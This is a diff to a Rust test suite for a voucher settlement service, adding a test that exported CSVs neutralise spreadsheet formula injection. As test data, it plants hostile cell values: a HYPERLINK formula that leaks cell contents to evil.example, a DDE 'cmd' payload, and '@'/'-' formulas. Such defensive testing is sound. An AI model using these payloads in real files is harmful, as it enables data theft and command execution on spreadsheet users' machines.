@@ -30,6 +30,7 @@ on_both_backends!(
     racing_runs_for_overlapping_periods_settle_each_redemption_once,
     a_batch_pays_many_providers_in_one_verifiable_entry,
     dominating_pairs_count_each_provider_and_firm_of_the_programme,
+    every_csv_of_a_run_is_safe_to_open_in_a_spreadsheet,
 );
 
 const CODE: &str = "ZS2026-S1";
@@ -83,8 +84,18 @@ async fn setting<S: Store>(store: S, firms: usize) -> Scene<S> {
     }
 }
 
-/// A contract for `voucher` with its own invoice.
-fn contract(voucher: &Value, invoice_number: &str, invoice_fen: i64, proof: bool) -> Value {
+/// An 8-digit invoice number that stands for `label` (the same label,
+/// the same number).
+fn invoice_digits(label: &str) -> String {
+    let hash = label.bytes().fold(0xcbf2_9ce4_8422_2325_u64, |h, b| {
+        (h ^ u64::from(b)).wrapping_mul(0x100_0000_01b3)
+    });
+    format!("{:08}", hash % 100_000_000)
+}
+
+/// A contract for `voucher` with its own invoice (numbered from `label`).
+fn contract(voucher: &Value, label: &str, invoice_fen: i64, proof: bool) -> Value {
+    let invoice_number = invoice_digits(label);
     let mut body = json!({
         "qr_text": voucher["token"],
         "service_category": "管理咨询",
@@ -1355,4 +1366,110 @@ async fn dominating_pairs_count_each_provider_and_firm_of_the_programme<S: Store
         assert_eq!(pairs, expected, "at least {min_count}");
     }
     assert_eq!(tx.dominating_pairs("Q", 2).await.unwrap(), vec![(b, y, 2)]);
+}
+
+/// Every cell of a CSV that spreadsheets could run as a formula: none
+/// may begin with `=`, `+`, `-` or `@` unless it is a plain number.
+fn formula_cells(csv: &[u8]) -> Vec<String> {
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .flexible(true)
+        .from_reader(csv.strip_prefix("\u{feff}".as_bytes()).unwrap_or(csv));
+    reader
+        .records()
+        .flat_map(|record| {
+            record
+                .unwrap()
+                .iter()
+                .map(str::to_string)
+                .collect::<Vec<_>>()
+        })
+        .filter(|cell| {
+            cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err()
+        })
+        .collect()
+}
+
+async fn every_csv_of_a_run_is_safe_to_open_in_a_spreadsheet<S: Store>(store: S, _db: &TestDb) {
+    let Scene {
+        world,
+        firms,
+        vouchers,
+        checker,
+        ..
+    } = setting(store, 1).await;
+    let admin = world.bearer("admin");
+    let finance = world.bearer("finance");
+    // A provider whose name, bank and account holder are formulas, and a
+    // firm renamed to one.
+    let mut fields = provider_fields(&uscc(41), &uscc(42), "5,000,000");
+    fields["name"] = json!("=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"查看发票\")");
+    fields["bank_name"] = json!("@SUM(1+1)");
+    fields["account_name"] = json!("+1+cmd|' /C calc'!A0");
+    let hostile = counter(&world, fields, "approved").await;
+    let rename = format!(
+        "uscc,name,division,sector,staff,revenue\n{},-2+3舟山公司,330902,industry,8,1500000\n",
+        firms[0].uscc
+    );
+    let renamed = world
+        .api
+        .post_bytes(
+            "/api/v1/imports/enterprises",
+            &admin,
+            "text/csv",
+            rename.into_bytes(),
+            "rename",
+        )
+        .await;
+    assert_eq!(renamed.body["updated"], 1, "{:?}", renamed.body);
+    // A formula is not an invoice number: refused at input.
+    let mut body = contract(&vouchers[0], "F1", CONTRACT, true);
+    body["invoice"]["number"] = json!("=HYPERLINK(\"http://evil.example/\")");
+    let refused = redeem_as(&world, &hostile.staff, body.clone(), "formula").await;
+    refused.expect_error(StatusCode::UNPROCESSABLE_ENTITY, "invoice_number_invalid");
+    body["invoice"]["number"] = json!("26332000000012345678");
+    body["invoice"]["code"] = json!("");
+    let redemptions = redeemed_and_confirmed(&world, &hostile, &firms, vec![body]).await;
+    assert_eq!(redemptions[0]["invoice"]["number"], "26332000000012345678");
+    let run = prepare(&world, &finance, &this_quarter(), "prep")
+        .await
+        .body;
+    approve(&world, &checker, &run, "approve").await;
+    let run_id = run["id"].as_str().unwrap();
+    let auditor = world.bearer("auditor");
+    let files = [
+        format!("/api/v1/settlement-runs/{run_id}/report/batch.csv"),
+        format!(
+            "/api/v1/settlement-runs/{run_id}/statements/{}/statement.csv",
+            hostile.provider_id
+        ),
+        format!("/api/v1/settlement-runs/{run_id}/payment-file"),
+    ];
+    for path in files {
+        let who = if path.ends_with("payment-file") {
+            &finance
+        } else {
+            &auditor
+        };
+        let (status, _, csv) = world.api.download(&path, who).await;
+        assert_eq!(status, StatusCode::OK, "{path}");
+        assert_eq!(formula_cells(&csv), Vec::<String>::new(), "{path}");
+        let text = String::from_utf8(csv).unwrap();
+        assert!(
+            text.contains("'=HYPERLINK") || text.contains("'+1+cmd"),
+            "{path}: the hostile names are there, neutralised: {text}"
+        );
+    }
+    let (_, _, batch) = world
+        .api
+        .download(
+            &format!("/api/v1/settlement-runs/{run_id}/report/batch.csv"),
+            &auditor,
+        )
+        .await;
+    let batch = String::from_utf8(batch).unwrap();
+    assert!(
+        batch.contains("'-2+3舟山公司") && batch.contains("'@SUM(1+1)"),
+        "{batch}"
+    );
 }
